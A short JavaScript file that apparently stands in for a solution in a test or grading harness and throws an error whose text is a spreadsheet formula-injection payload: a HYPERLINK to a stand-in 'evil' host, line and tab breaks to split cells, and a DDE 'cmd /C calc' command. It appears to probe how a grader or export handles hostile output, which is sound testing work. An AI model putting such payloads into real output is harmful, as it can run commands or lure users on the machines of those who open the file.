// Throws a text that is a formula in a spreadsheet, and breaks its cell and its
// row.
//
// Stands: instead of the solution
// Verdict: threw, 0 points

const text = `=HYPERLINK("http://evil";"16")\r\n+1,"16",\t-1+cmd|' /C calc'!A0`;
export function topologicalOrder() {
  throw new Error(text);
}
export const backward = topologicalOrder;
